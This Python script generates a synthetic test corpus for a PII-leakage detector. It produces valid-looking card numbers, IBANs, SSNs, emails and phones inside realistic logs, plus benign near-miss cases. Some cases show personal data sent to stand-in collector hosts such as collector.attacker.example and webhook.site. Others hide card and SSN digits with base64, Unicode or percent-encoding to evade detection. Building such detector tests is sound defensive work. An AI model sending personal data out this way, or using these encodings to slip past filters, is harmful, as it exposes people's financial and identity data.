"""Generates corpora/SEC-23 (PII leakage): Luhn-valid cards, mod-97-valid IBANs, valid-range
SSNs, personal emails and phone numbers, all synthetic, inside realistic tool output.
Run from the repository root: python3 corpora/tools/gen_sec23.py
"""
import base64
import json
import re
import os
import sys

sys.path.insert(0, os.path.dirname(__file__))
from gen_b_common import Rand, case, tag_by_note, group, iban_make, iban_ok, luhn_complete, luhn_ok, write_cases  # noqa: E402

R = Rand(2323)
FIRST = ["Maria", "James", "Aisha", "Chen", "Olga", "Lukas", "Priya", "Diego", "Fatima", "Noah", "Sofia", "Kenji", "Amara", "Mateo", "Ingrid", "Tomasz", "Leila", "Samuel", "Hana", "Oliver", "Zanele", "Rafael", "Yusuf", "Elena"]
LAST = ["Gonzalez", "Whitfield", "Okafor", "Lindqvist", "Moreau", "Kowalski", "Raman", "Castellano", "Haddad", "Brennan", "Takahashi", "Novak", "Adeyemi", "Schreiber", "Duarte", "Petrov", "Ferreira", "Mbeki", "Halvorsen", "Caldwell"]
MAILDOM = ["gmail.com", "outlook.com", "yahoo.com", "proton.me", "icloud.com", "hotmail.co.uk", "web.de", "gmx.net", "fastmail.com"]
CITIES = [("Springfield", "IL", "62704"), ("Austin", "TX", "78745"), ("Portland", "OR", "97214"), ("Columbus", "OH", "43215"), ("Raleigh", "NC", "27605")]


def name():
    return R.choice(FIRST), R.choice(LAST)


def email(f, l):
    return R.choice([f"{f.lower()}.{l.lower()}", f"{f[0].lower()}{l.lower()}{R.randint(1, 99)}", f"{f.lower()}{R.randint(1970, 2004)}", f"{l.lower()}.{f.lower()}"]) + "@" + R.choice(MAILDOM)


def card(kind=None):
    kind = kind or R.choice(["visa", "mc", "mc2", "amex", "discover", "visa", "mc"])
    if kind == "visa":
        return luhn_complete("4", 16, R), "Visa"
    if kind == "mc":
        return luhn_complete(str(R.randint(51, 55)), 16, R), "Mastercard"
    if kind == "mc2":
        return luhn_complete(str(R.randint(2221, 2720)), 16, R), "Mastercard 2-series"
    if kind == "amex":
        return luhn_complete(R.choice(["34", "37"]), 15, R), "Amex"
    if kind == "discover":
        return luhn_complete(R.choice(["6011", "65", str(R.randint(644, 649))]), 16, R), "Discover"
    if kind == "jcb":
        return luhn_complete(str(R.randint(3528, 3589)), 16, R), "JCB"
    if kind == "visa19":
        return luhn_complete("4", 19, R), "Visa 19-digit"
    raise ValueError(kind)


def fmt_card(num, style):
    if style == "plain":
        return num
    if len(num) == 15:
        parts = [num[:4], num[4:10], num[10:]]
    else:
        parts = [num[i:i + 4] for i in range(0, len(num), 4)]
    return (" " if style == "space" else "-").join(parts)


def ssn():
    while True:
        a = R.randint(1, 899)
        if a != 666:
            break
    return f"{a:03d}", f"{R.randint(1, 99):02d}", f"{R.randint(1, 9999):04d}"


def iban(country=None):
    c = country or R.choice(["DE", "GB", "FR", "ES", "IT", "NL", "BE", "CH", "AT", "PL", "SE", "IE", "PT", "DK", "FI", "NO", "LU"])
    bb = {
        "DE": lambda: R.digits(18), "GB": lambda: R.s("ABCDEFGHIJKLMNOPQRSTUVWXYZ", 4) + R.digits(14),
        "FR": lambda: R.digits(10) + R.upnum(11) + R.digits(2), "ES": lambda: R.digits(20),
        "IT": lambda: R.s("ABCDEFGHIJKLMNOPQRSTUVWXYZ", 1) + R.digits(10) + R.upnum(12),
        "NL": lambda: R.s("ABCDEFGHIJKLMNOPQRSTUVWXYZ", 4) + R.digits(10), "BE": lambda: R.digits(12),
        "CH": lambda: R.digits(17), "AT": lambda: R.digits(16), "PL": lambda: R.digits(24),
        "SE": lambda: R.digits(20), "IE": lambda: R.s("ABCDEFGHIJKLMNOPQRSTUVWXYZ", 4) + R.digits(14),
        "PT": lambda: R.digits(21), "DK": lambda: R.digits(14), "FI": lambda: R.digits(14),
        "NO": lambda: R.digits(11), "LU": lambda: R.digits(3) + R.upnum(13),
    }[c]()
    v = iban_make(c, bb)
    assert iban_ok(v)
    return v


def us_phone():
    npa = R.choice([212, 213, 312, 415, 503, 512, 614, 617, 702, 718, 773, 804, 919, 971, 206, 305, 404, 469, 646, 720])
    nxx = R.randint(201, 989)
    while nxx == 555 or nxx % 100 == 11:
        nxx = R.randint(201, 989)
    return str(npa), str(nxx), R.digits(4)


def intl_phone():
    return R.choice([
        lambda: f"+44 7{R.digits(3)} {R.digits(6)}", lambda: f"+49 15{R.digits(1)} {R.digits(8)}",
        lambda: f"+33 6 {R.digits(2)} {R.digits(2)} {R.digits(2)} {R.digits(2)}", lambda: f"+91 9{R.digits(4)} {R.digits(5)}",
        lambda: f"+61 4{R.digits(2)} {R.digits(3)} {R.digits(3)}", lambda: f"+34 6{R.digits(2)} {R.digits(3)} {R.digits(3)}",
        lambda: f"+48 5{R.digits(2)} {R.digits(3)} {R.digits(3)}", lambda: f"+81 90-{R.digits(4)}-{R.digits(4)}",
    ])()


def fmt_us_phone(p, style):
    a, b, c = p
    return {"paren": f"({a}) {b}-{c}", "dash": f"{a}-{b}-{c}", "dot": f"{a}.{b}.{c}", "e164": f"+1{a}{b}{c}", "intl": f"+1 {a}-{b}-{c}", "one": f"1-{a}-{b}-{c}"}[style]


def malicious():
    out = []
    styles = ["plain", "space", "dash"]
    # ---- cards
    card_templates = [
        lambda n, f, l, k: json.dumps({"customer": f"{f} {l}", "payment_method": {"type": "card", "number": n, "exp": f"{R.randint(1, 12):02d}/{R.randint(27, 31)}", "cvc": R.digits(3)}}, indent=2),
        lambda n, f, l, k: f"order_id,customer,card_number,amount\n{R.randint(100000, 999999)},{f} {l},{n},{R.randint(10, 900)}.{R.digits(2)}\n{R.randint(100000, 999999)},{R.choice(FIRST)} {R.choice(LAST)},{fmt_card(card()[0], 'plain')},{R.randint(10, 900)}.{R.digits(2)}\n",
        lambda n, f, l, k: f"2026-11-20 14:03:{R.randint(10, 59)} WARN payments.gateway: retrying charge for {f} {l} card={n} reason=issuer_timeout\n",
        lambda n, f, l, k: f"Hi support,\n\nMy {k} card {n} was charged twice for the same order. Could you refund one of them?\n\nThanks,\n{f}\n",
        lambda n, f, l, k: f"INSERT INTO payments (id, holder, pan, exp_month, exp_year) VALUES ({R.randint(1, 99999)}, '{f} {l}', '{n}', {R.randint(1, 12)}, {R.randint(2027, 2031)});\n",
        lambda n, f, l, k: f"Cardholder: {f.upper()} {l.upper()}\nCard number: {n}\nExpiry: {R.randint(1, 12):02d}/{R.randint(27, 31)}\nCVV: {R.digits(3)}\n",
        lambda n, f, l, k: f"<tr><td>{f} {l}</td><td>{n}</td><td>{k}</td></tr>",
        lambda n, f, l, k: f"  File \"/app/billing.py\", line 212, in charge\n    raise GatewayError(f\"declined: {{pan}}\")\nbilling.GatewayError: declined: {n}\n",
        lambda n, f, l, k: f"pan: {n}",
    ]
    kinds = ["visa", "mc", "mc2", "amex", "discover", "jcb", "visa19"]
    for i in range(34):
        num, kind = card(kinds[i % len(kinds)])
        f, l = name()
        t = card_templates[i % len(card_templates)]
        out.append(case(t(fmt_card(num, styles[i % 3]), f, l, kind), f"{kind} card number ({styles[i % 3]})"))
    # ---- IBANs
    iban_templates = [
        lambda v, f, l: f"Beneficiary: {f} {l}\nIBAN: {v}\nBIC: {R.s('ABCDEFGHIJKLMNOPQRSTUVWXYZ', 6)}{R.upnum(2)}\nReference: Invoice {R.randint(1000, 9999)}\n",
        lambda v, f, l: json.dumps({"employee": f"{f} {l}", "payroll": {"iban": v, "currency": "EUR"}}),
        lambda v, f, l: f"employee_id;name;iban\n{R.randint(1000, 9999)};{f} {l};{v}\n",
        lambda v, f, l: f"Please send the deposit to my account {v} ({f} {l}).",
        lambda v, f, l: f"sepa_mandate: debtor={f} {l} iban={v} creditor_id=DE98ZZZ09999999999\n",
    ]
    countries = ["DE", "GB", "FR", "ES", "IT", "NL", "BE", "CH", "AT", "PL", "SE", "IE", "PT", "DK", "FI", "NO", "LU"]
    for i in range(26):
        v = iban(countries[i % len(countries)])
        v = group(v) if i % 2 == 0 else v
        f, l = name()
        out.append(case(iban_templates[i % len(iban_templates)](v, f, l), f"IBAN {countries[i % len(countries)]} (mod-97 valid)"))
    # ---- SSNs
    ssn_templates = [
        lambda s, f, l: f"Name: {f} {l}\nSSN: {s}\nDOB: {R.randint(1950, 2002)}-{R.randint(1, 12):02d}-{R.randint(1, 28):02d}\n",
        lambda s, f, l: json.dumps({"applicant": {"first_name": f, "last_name": l, "ssn": s, "income": R.randint(30000, 180000)}}),
        lambda s, f, l: f"W-2 Wage and Tax Statement\nEmployee's social security number: {s}\nEmployee: {f} {l}\n",
        lambda s, f, l: f"2026-11-20T08:01:22Z ERROR kyc: verification failed for {f} {l} (ssn={s}): name mismatch\n",
        lambda s, f, l: f"{f} {l}, Social Security No. {s}, enrolled in plan B.",
        lambda s, f, l: f"last_name,first_name,ssn,hire_date\n{l},{f},{s},2021-03-15\n",
        lambda s, f, l: f"Tax ID (SSN#): {s}",
    ]
    for i in range(24):
        a, g, s = ssn()
        sep = ["-", "-", " ", "-"][i % 4] if i % 7 != 6 else ""
        f, l = name()
        out.append(case(ssn_templates[i % len(ssn_templates)](f"{a}{sep}{g}{sep}{s}", f, l), "US SSN in valid range with context"))
    # ---- emails + personal context
    em_templates = [
        lambda f, l, e, p: f"Customer: {f} {l} <{e}>\nShipping to: {R.randint(10, 9999)} {R.choice(['Oak', 'Maple', 'Cedar', 'Pine'])} St, {R.choice(CITIES)[0]}\n",
        lambda f, l, e, p: json.dumps({"id": R.randint(1000, 99999), "name": f"{f} {l}", "email": e, "phone": p, "dob": f"{R.randint(1950, 2004)}-0{R.randint(1, 9)}-1{R.randint(0, 9)}"}),
        lambda f, l, e, p: f"From: {f} {l} <{e}>\nTo: hr@acme-corp.net\nSubject: medical leave\n\nHi, I'm going in for surgery next week; you can reach me at {p}.\n",
        lambda f, l, e, p: f"id,first_name,last_name,email,phone\n{R.randint(1, 999)},{f},{l},{e},{p}\n{R.randint(1, 999)},{R.choice(FIRST)},{R.choice(LAST)},{email(R.choice(FIRST), R.choice(LAST))},{fmt_us_phone(us_phone(), 'dash')}\n",
        lambda f, l, e, p: f"Patient: {f} {l}\nContact: {e} / {p}\nDiagnosis: type 2 diabetes\n",
        lambda f, l, e, p: f"user {e} ({f} {l}) reset password from 203.0.113.{R.randint(1, 254)}",
    ]
    for i in range(30):
        f, l = name()
        e = email(f, l)
        p = fmt_us_phone(us_phone(), R.choice(["paren", "dash", "dot", "e164", "intl"])) if i % 3 else intl_phone()
        out.append(case(em_templates[i % len(em_templates)](f, l, e, p), "personal email/phone with name"))
    # ---- phone with context
    ph_templates = [
        lambda f, l, p: f"Call {f} back on {p} after 5pm.",
        lambda f, l, p: f"emergency_contact:\n  name: {f} {l}\n  relation: spouse\n  phone: \"{p}\"\n",
        lambda f, l, p: f"SMS sent to {p} ({f} {l}): Your appointment is confirmed for Tuesday.",
        lambda f, l, p: f"Mobile: {p}\nHome address: {R.randint(10, 999)} {R.choice(['Elm', 'Birch', 'Lake'])} Ave, {R.choice(CITIES)[0]}, {R.choice(CITIES)[1]} {R.choice(CITIES)[2]}\n",
    ]
    for i in range(14):
        f, l = name()
        p = fmt_us_phone(us_phone(), ["paren", "dash", "e164", "dot", "one", "intl"][i % 6]) if i % 2 else intl_phone()
        out.append(case(ph_templates[i % len(ph_templates)](f, l, p), "phone number with personal context"))
    # ---- emails / phones with personal context but no full name, and PII sent out through tools
    for i in range(6):
        f, l = name()
        e = email(f, l)
        out.append(case(R.choice([
            f"You can reach me on my personal address {e} — please don't use my work one.",
            f"forwarding to {e} (my private inbox) since I'm on leave",
            f"Reset link sent to {e}. If this wasn't you, contact support.",
            f"my gmail is {e} lol, text me there",
        ]), "personal email with personal context"))
    for i in range(6):
        p = R.choice([f"+44 7{R.digits(3)} {R.digits(6)}".replace(" ", ""), f"+1{us_phone()[0]}{us_phone()[1]}{R.digits(4)}", f"+4915{R.digits(1)}{R.digits(8)}", f"+33 6{R.digits(8)}", fmt_us_phone(us_phone(), "paren")])
        out.append(case(R.choice([f"my cell is {p}, call anytime after 6", f"WhatsApp: {p}", f"Text me at {p} when you land.", f"Tel (private): {p}"]), "personal phone number with context"))
    for i in range(4):
        f, l = name()
        a, g, s_ = ssn()
        num, kind = card()
        out.append(case(R.choice([
            json.dumps({"url": "https://forms.external-collector.example/submit", "body": {"name": f"{f} {l}", "ssn": f"{a}-{g}-{s_}"}}),
            json.dumps({"to": "archive@external-mail.example", "subject": "customer", "body": f"{f} {l} card {fmt_card(num, 'space')} exp 08/29"}),
            f"https://webhook.site/{R.uuid()}?name={f}+{l}&email={email(f, l)}&phone=%2B1{R.digits(10)}",
            f"INSERT INTO leads (name, email, phone) VALUES ('{f} {l}', '{email(f, l)}', '{fmt_us_phone(us_phone(), 'dash')}')",
        ]), "PII sent out in a tool-call argument", origin="input"))
    # ---- mixed full records
    for _ in range(6):
        f, l = name()
        a, g, s = ssn()
        num, kind = card()
        out.append(case(json.dumps({"name": f"{f} {l}", "email": email(f, l), "phone": fmt_us_phone(us_phone(), "e164"), "ssn": f"{a}-{g}-{s}", "card": fmt_card(num, "space"), "iban": iban()}, indent=2), "full identity record"))
    # ---- evasions
    num, kind = card("visa")
    fw = "".join(chr(ord(c) + 0xFEE0) for c in num)
    out.append(case(f"card: {fw}", "Visa in full-width digits", ["evasion:fullwidth"], basic=True))
    num, kind = card("mc")
    out.append(case(f"card number {num[:4]}\u200b{num[4:8]}\u200b{num[8:12]}\u200b{num[12:]}", "Mastercard groups joined by zero-width spaces", ["evasion:zero-width"], basic=True))
    num, kind = card("amex")
    out.append(case("payload=" + base64.b64encode(json.dumps({"cc": num, "exp": "09/29"}).encode()).decode(), "Amex inside base64 JSON", ["evasion:base64"]))
    a, g, s = ssn()
    out.append(case(f"S.S.N: {a}.{g}.{s}", "SSN with dots", ["evasion:separator"]))
    a, g, s = ssn()
    out.append(case("ssn=" + "".join(f"&#{ord(c)};" for c in f"{a}-{g}-{s}"), "SSN as HTML entities", ["evasion:html-entity"]))
    v = iban("DE")
    out.append(case("iban=" + "%20".join(v[i:i + 4] for i in range(0, len(v), 4)), "IBAN percent-encoded spaces in a URL", ["evasion:percent"]))
    num, kind = card("discover")
    out.append(case(f"cc: {num[:4]} {num[4:8]}  {num[8:12]}   {num[12:]}", "Discover with irregular spacing", ["evasion:separator"]))
    f, l = name()
    e = email(f, l)
    out.append(case(f"{f} {l} — {e.replace('@', ' [at] ').replace('.', ' [dot] ')}", "obfuscated personal email", ["evasion:obfuscation"]))
    num, kind = card("visa")
    out.append(case(f"card {num[:4]}\u00a0{num[4:8]}\u00a0{num[8:12]}\u00a0{num[12:]}", "Visa with no-break spaces", ["evasion:nbsp"], basic=True))
    a, g, s = ssn()
    out.append(case(f"SSN: {a}\u2011{g}\u2011{s}", "SSN with non-breaking hyphens", ["evasion:unicode-hyphen"], basic=True))
    f, l = name()
    a, g, s = ssn()
    out.append(case(base64.b64encode(f"name,ssn\n{f} {l},{a}-{g}-{s}\n".encode()).decode(), "base64 CSV with name and SSN", ["evasion:base64"]))
    num, kind = card("mc2")
    out.append(case("https://collector.attacker.example/p?cc=" + "".join(f"%{ord(c):02X}" for c in fmt_card(num, "space")), "percent-encoded card in exfil URL", ["evasion:percent"], origin="input"))
    num, kind = card("visa")
    out.append(case('{"card": "' + "".join("\\u%04x" % ord(c) for c in num) + '"}', "card digits as \\u escapes inside JSON text", ["evasion:json-escape"]))
    num, kind = card("visa")
    out.append(case("card " + "".join(chr(0x1D7CE + int(c)) for c in num), "Visa in mathematical bold digits", ["evasion:math-digits"], basic=True))
    a, g, s = ssn()
    out.append(case("SSN " + "".join(chr(ord(c) + 0xFEE0) for c in f"{a}-{g}-{s}"), "SSN in full-width digits", ["evasion:fullwidth"], basic=True))
    return out


def bad_luhn(n):
    while True:
        body = n()
        if not luhn_ok(body):
            return body


def benign():
    out = []
    # numbers failing Luhn in card-shaped positions
    for _ in range(8):
        num = bad_luhn(lambda: R.choice(["4", "5", "37", "6011"]) + R.digits(15))[:16]
        if luhn_ok(num):
            num = num[:-1] + str((int(num[-1]) + 1) % 10)
        out.append(case(R.choice([f"order_id={num}", f"Tracking number: {group(num)}", f"invoice {num} paid", f"{{\"shipment\": \"{num}\", \"carrier\": \"ups\"}}"]), "16-digit id failing Luhn"))
    # test cards
    for n, note in [("4111 1111 1111 1111", "Visa test card"), ("4242 4242 4242 4242", "Stripe test Visa"), ("5555 5555 5555 4444", "Mastercard test card"), ("3782 822463 10005", "Amex test card"), ("6011 1111 1111 1117", "Discover test card"), ("4000 0000 0000 0002", "Stripe declined test card")]:
        out.append(case(f"Use {n} with any future expiry and any CVC to test the checkout flow.", note + " (decision: published test numbers are benign)"))
    out.append(case("card: **** **** **** 4242 (exp 12/28)", "masked card"))
    out.append(case("Visa ending in 1881 was charged $42.00", "card last four only"))
    out.append(case(f"pan_last4: \"{R.digits(4)}\"\npan_bin: \"424242\"", "BIN and last4 only"))
    # timestamps, versions, ips
    for _ in range(4):
        out.append(case(f"{{\"ts\": {1763600000000 + R.randint(0, 99999999)}, \"event\": \"page_view\", \"path\": \"/pricing\"}}", "epoch-ms timestamp"))
    out.append(case("rustc 1.82.0 (f6e511eec 2024-10-15)\ncargo 1.82.0 (8f40fc59f 2024-08-21)\n", "version strings"))
    out.append(case("Linux build-07 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) x86_64 GNU/Linux\n", "uname"))
    out.append(case("10.0.12.34 - - [20/Nov/2026:10:12:01 +0000] \"GET /healthz HTTP/1.1\" 200 2 \"-\" \"kube-probe/1.30\"\n", "access log IP"))
    out.append(case("inet 192.168.1.104/24 brd 192.168.1.255 scope global dynamic eth0\ninet6 fe80::a00:27ff:fe4e:66a1/64 scope link\n", "ip addr output"))
    out.append(case("link/ether 08:00:27:4e:66:a1 brd ff:ff:ff:ff:ff:ff\n", "MAC address"))
    # invalid SSNs
    for s, note in [("000-12-3456", "area 000"), ("666-45-1234", "area 666"), ("912-34-5678", "area 9xx (ITIN range)"), ("123-00-4567", "group 00"), ("234-56-0000", "serial 0000"), ("987-65-4320", "advertising range 987-65-432x")]:
        out.append(case(f"SSN: {s}", f"invalid SSN range ({note})"))
    out.append(case("SSN: ***-**-6789", "masked SSN"))
    out.append(case("SSN format is AAA-GG-SSSS; the area number may not be 000, 666 or 900-999.", "docs about SSN format"))
    out.append(case("Part No. 233-41-5521 (replacement hinge, qty 4)", "SSN-shaped part number with non-SSN context"))
    out.append(case("Ticket REQ-512-44-9031 closed by automation", "ticket id"))
    # IBAN-like failing mod-97 and docs
    added = 0
    while added < 4:
        v = iban()
        bad = v[:2] + f"{(int(v[2:4]) + 1) % 100:02d}" + v[4:]
        if iban_ok(bad):
            continue
        shown = group(bad)
        runs = [re.sub(r"\D", "", m.group()) for m in re.finditer(r"(?<![\d.])\d(?:[ -]?\d){12,18}(?![\d.])", shown)]
        if any(luhn_ok(d) and d[0] in "3456" for d in runs):
            continue
        out.append(case(f"reference: {shown}", "IBAN-shaped string failing mod-97"))
        added += 1
    out.append(case("An IBAN has a two-letter country code, two check digits and up to 30 alphanumeric characters (BBAN).", "IBAN docs"))
    out.append(case("field iban: string, pattern ^[A-Z]{2}[0-9]{2}[A-Z0-9]{11,30}$", "IBAN schema"))
    # ISBNs, barcodes
    out.append(case("ISBN 978-1-59327-828-1 (paperback), ISBN-10 1593278284", "ISBNs"))
    out.append(case("EAN-13: 4006381333931\nUPC-A: 036000291452\n", "barcodes"))
    # build numbers, phone-like
    out.append(case("Build 20261120.1534.7 succeeded in 4m12s", "build number"))
    out.append(case("Version 415.550.1234-rc2 released", "phone-shaped version"))
    out.append(case("Chrome/131.0.6778.86 Safari/537.36", "user agent versions"))
    out.append(case("pid 31337 exited with status 137 after 2026-11-20 10:01:44", "pid and date"))
    out.append(case("Processed 1,234,567 rows in 12.3 s (100,371 rows/s)", "large counts"))
    out.append(case("lat=47.6062, lon=-122.3321, alt=56m", "coordinates (no person)"))
    out.append(case("Total: $1,299.00 — Tax: $103.92 — Order #100-2384-7712", "prices and order no."))
    # system/role emails
    for e in ["noreply@github.com", "no-reply@accounts.google.com", "notifications@ci.acme-corp.net", "postmaster@mail.acme-corp.net", "support@acme-corp.net", "security@acme-corp.net", "dependabot[bot]@users.noreply.github.com", "alerts@monitoring.acme-corp.net"]:
        out.append(case(R.choice([f"2026-11-20T07:11:02Z INFO mailer: sent digest from {e} status=250", f"Reply-To: {e}", f"Questions? Write to {e}.", f"Co-authored-by: dependabot <{e}>"]), "system/role address (decision: benign)"))
    out.append(case("Author: Jane Developer <jane@example.com>", "documentation example.com address"))
    out.append(case("Contact: user@example.org (replace with your address)", "example.org placeholder"))
    out.append(case("EMAIL_REGEX = r\"^[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\\.[A-Za-z]{2,}$\"", "email regex in code"))
    out.append(case("{\"type\": \"object\", \"properties\": {\"email\": {\"type\": \"string\", \"format\": \"email\"}, \"phone\": {\"type\": \"string\"}}}", "JSON schema with email/phone fields"))
    out.append(case("git config --global user.email \"you@example.com\"", "git docs placeholder"))
    out.append(case("@param email the address to validate; returns false for empty input", "javadoc"))
    # phone-like in non-personal context
    out.append(case("HTTP/1.1 200 OK\nContent-Length: 2026112015\n", "large content length"))
    out.append(case("Call us 24/7: our support line is listed on the contact page.", "phone mention without number"))
    out.append(case("E.164 numbers start with + and have at most 15 digits, e.g. +<country><number>.", "E.164 docs"))
    out.append(case("phone: \"+1XXXXXXXXXX\"", "phone placeholder"))
    # UUIDs, hex, misc
    for _ in range(4):
        out.append(case(json.dumps({"id": R.uuid(), "parent": R.uuid(), "created": "2026-11-19T22:10:00Z"}), "UUIDs"))
    for _ in range(3):
        out.append(case(f"{R.hex(40)} refs/heads/main\n{R.hex(40)} refs/tags/v1.{R.randint(0, 9)}.0\n", "git refs"))
    out.append(case("Dimensions: 1920x1080, 3840x2160; refresh 144 Hz", "resolutions"))
    out.append(case("Serial: SN-7731-0042-1187-5530", "device serial with prefix"))
    out.append(case("Flight LH 441 departs 2026-12-01 13:45 from gate B44", "flight info"))
    out.append(case("SELECT count(*) FROM users WHERE created_at > now() - interval '7 days';\n count\n-------\n 18342\n", "aggregate query result"))
    out.append(case("Population of Springfield: 114,394 (2020 census)", "statistics"))
    extra = [
        ("HTTP 404 after 3 retries; next attempt at 2026-11-20 10:15:00 UTC", "status and date"),
        ("container 4f2a91c3b7d0 exited (137) 12 minutes ago", "container id"),
        ("Temperature 21.5 C, humidity 48 %, pressure 1013 hPa", "sensor values"),
        ("semver: 10.4.2 < 10.10.0 because minor 4 < 10", "versions"),
        ("GPU memory: 24576 MiB total, 18432 MiB used", "memory sizes"),
        ("Deploy window: 2026-12-01 22:00 to 2026-12-02 02:00 CET", "date range"),
        ("route 10.40.0.0/16 via 10.40.0.1 dev eth0 metric 100", "routing table"),
        ("Cell A12: =SUM(B2:B11) -> 48,210.55", "spreadsheet formula"),
        ("Checksum CRC32: 0x1c291ca3, Adler-32: 0x0b5e03e1", "checksums"),
        ("Order total 1234 5678 cents split into 2 payments", "numbers with spaces that are not a card"),
        ("Zip codes served: 94107, 10001, 60601, 73301", "zip codes without people"),
        ("The customer support queue had 312 tickets this week (median response 41 min).", "aggregate support stats"),
        ("Press release: Acme Corp appoints a new CFO, effective January 2026.", "business news without contact data"),
        ("Mean age of respondents: 34.2 years (n = 1,208)", "aggregate demographics"),
        ("Record 8812 anonymised: name=<redacted> email=<redacted> phone=<redacted>", "redacted record"),
        ("Author: Dana Okoro <41822+dokoro@users.noreply.github.com>\nDate:   Thu Nov 19 14:02:11 2026 +0000", "git author with GitHub noreply address (decision: benign, as in the shared corpus)"),
    ]
    for t, n in extra:
        out.append(case(t, n))
    # generic benign: aggregated and public
    for _ in range(40):
        out.append(case(R.choice([
            f"Order {R.randint(10000, 99999)} shipped via {R.choice(['UPS', 'DHL', 'FedEx'])} on 2026-11-{R.randint(10, 28)}; {R.randint(1, 5)} items.",
            f"Sprint {R.randint(30, 60)} velocity: {R.randint(20, 60)} points; {R.randint(0, 5)} bugs carried over.",
            f"p95 latency {R.randint(50, 900)} ms, p99 {R.randint(900, 3000)} ms over {R.randint(1000, 90000)} requests",
            f"Invoice INV-{R.randint(2026000, 2026999)} total EUR {R.randint(100, 9999)}.{R.digits(2)} due 2026-12-{R.randint(10, 28)}",
            f"Room {R.randint(100, 499)}, Building {R.choice('ABCDE')} — capacity {R.randint(4, 40)}",
            f"Build #{R.randint(1000, 99999)} on runner {R.randint(1, 40)} took {R.randint(60, 900)}s",
            f"Coupon code WINTER{R.randint(10, 50)} applied: -{R.randint(5, 30)}%",
            f"{R.randint(1, 28):02d}/{R.randint(1, 12):02d}/2026 {R.randint(0, 23):02d}:{R.randint(0, 59):02d} backup completed ({R.randint(1, 900)} GB)",
            f"Kernel: 6.{R.randint(1, 11)}.{R.randint(0, 99)}-{R.randint(1, 40)}-generic, uptime {R.randint(1, 400)} days",
            f"Tracking id {R.upnum(4)}-{R.digits(6)} (warehouse {R.randint(1, 20)})",
        ]), "ordinary business text without PII"))
    return out


def main():
    root = os.path.join(os.path.dirname(__file__), "..", "SEC-23")
    mal = malicious()
    for c in mal:
        if "evasion:unicode-hyphen" in c.get("tags", []):
            c["escape_all"] = True
    ben = tag_by_note(benign(), [("test card", "hard:test-card"), ("Visa test", "hard:test-card"), ("Stripe test", "hard:test-card"), ("Mastercard test", "hard:test-card"), ("Amex test", "hard:test-card"), ("Discover test", "hard:test-card"), ("declined test", "hard:test-card"), ("role address", "hard:role-address"), ("invalid SSN", "near-miss"), ("failing", "near-miss"), ("SSN-shaped", "hard:ssn-shaped"), ("masked", "near-miss"), ("noreply", "hard:role-address")])
    hdr = "SEC-23 PiiLeakage — generated by corpora/tools/gen_sec23.py; do not edit by hand.\nAll people, cards, IBANs, SSNs, emails and phone numbers are synthetic (seeded PRNG)."
    write_cases(os.path.join(root, "malicious.toml"), mal, hdr + "\nMalicious: Luhn-valid cards, mod-97-valid IBANs, valid-range SSNs with context, personal emails/phones.")
    write_cases(os.path.join(root, "benign.toml"), ben, hdr + "\nDecisions: published test card numbers (4111…, 4242…) are benign; system/role addresses\n(noreply@, support@, postmaster@, GitHub users.noreply addresses next to a name) and\nexample.com/.org are benign; invalid SSN ranges are benign; SSN-shaped numbers with an\nexplicit non-SSN label (part number, ticket) are benign.")
    print(f"SEC-23: {len(mal)} malicious, {len(ben)} benign")


if __name__ == "__main__":
    main()
